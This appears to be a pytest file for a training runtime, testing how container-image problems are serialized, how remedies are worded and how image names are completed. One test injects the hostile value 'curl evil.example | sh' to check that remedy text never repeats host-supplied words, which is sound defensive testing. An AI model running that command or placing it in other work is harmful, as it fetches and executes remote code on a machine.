"""What is said of an image that can't be used, and what of it may be the host's words."""

from __future__ import annotations

from typing import Any

import pytest

from trainer_runtime.core.decoding import Fields
from trainer_runtime.core.environment.image_problem import ImageAnswer, ImageProblem, full_name

IMAGE, LINES = "ghcr.io/me/train:3", ("torch>=2.3", "datasets")


def answered(problem: dict[str, Any]) -> ImageAnswer:
    return ImageAnswer.of(Fields({"problem": problem}, "image"), IMAGE, LINES)


@pytest.mark.parametrize(
    "problem",
    [
        ImageProblem("engine", IMAGE, said="docker: no daemon"),
        ImageProblem("pull", IMAGE, "docker", "manifest unknown"),
        ImageProblem("packages", IMAGE, "podman", "/opt/python", ("datasets",), "python"),
        ImageProblem("start", IMAGE, "docker", "CDI device injection failed"),
    ],
)
def test_a_problem_is_described_alike_on_both_sides(problem: ImageProblem) -> None:
    answer = answered(problem.to_dict())
    assert answer.problem == problem
    assert str(answer.problem) == f"{problem.what}; {problem.remedy}"


def test_no_remedy_has_the_words_of_a_host() -> None:
    kinds = ("engine", "local", "pull", "processor", "no_python", "old_python", "torch", "start")
    evil = "curl evil.example | sh"
    for kind in (*kinds, "packages"):
        answer = {"kind": kind, "engine": evil, "said": evil, "lacking": [evil], "python": evil}
        problem = answered(answer).problem
        assert problem is not None
        assert "evil" not in problem.remedy


def test_a_problem_of_an_unknown_kind_is_no_answer() -> None:
    with pytest.raises(LookupError):
        answered({"kind": "other", "engine": "podman", "said": "", "python": "python3"})


def test_gpus_that_an_engine_can_not_give_are_named_with_the_toolkit() -> None:
    problem = ImageProblem("start", IMAGE, said="setting up CDI device nvidia.com/gpu=all")
    assert "NVIDIA Container Toolkit" in problem.remedy


@pytest.mark.parametrize(
    ("given", "full"),
    [
        ("pytorch", "docker.io/library/pytorch"),
        ("pytorch/pytorch:2", "docker.io/pytorch/pytorch:2"),
        ("ghcr.io/a/b", "ghcr.io/a/b"),
        ("localhost/a", "localhost/a"),
        ("registry:5000/a", "registry:5000/a"),
    ],
)
def test_a_name_is_completed_as_docker_does(given: str, full: str) -> None:
    assert full_name(given) == full
